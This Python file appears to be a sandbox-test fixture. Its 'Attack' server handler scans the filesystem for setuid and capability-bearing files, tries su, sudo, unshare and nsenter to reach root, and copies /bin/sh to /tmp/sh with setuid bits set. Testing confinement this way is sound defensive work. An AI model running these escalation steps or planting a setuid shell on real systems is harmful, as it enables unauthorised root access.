import os
import shutil
import subprocess

import server



class Attack(server.Broken):
    def answer(self):
        if not self.path.startswith("/echo"):
            return super().answer()
        gained = []
        for folder, folders, files in os.walk("/"):
            if folder == "/":
                folders[:] = [name for name in folders if name not in ("proc", "sys")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.lstat(path).st_mode & 0o6000 and os.path.isfile(path):
                        gained.append(path)
                    if "security.capability" in os.listxattr(path, follow_symlinks=False):
                        gained.append(path)
                except OSError:
                    pass
        for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["newgrp"], ["unshare", "-r", "id"],
                        ["nsenter", "-t", "1", "-a", "id"], ["mount"], ["capsh", "--print"]):
            try:
                done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
                if b"uid=0" in done.stdout:
                    gained.append(command)
            except (OSError, subprocess.TimeoutExpired):
                pass
        shutil.copy("/bin/sh", "/tmp/sh")
        os.chmod("/tmp/sh", 0o6755)
        status = open("/proc/self/status").read()
        caps = [line for line in status.splitlines() if line.startswith(("CapEff", "CapBnd", "NoNewPrivs"))]
        self.reply(200, {"gained": gained, "uid": os.getresuid(), "caps": caps})


server.serve(Attack)
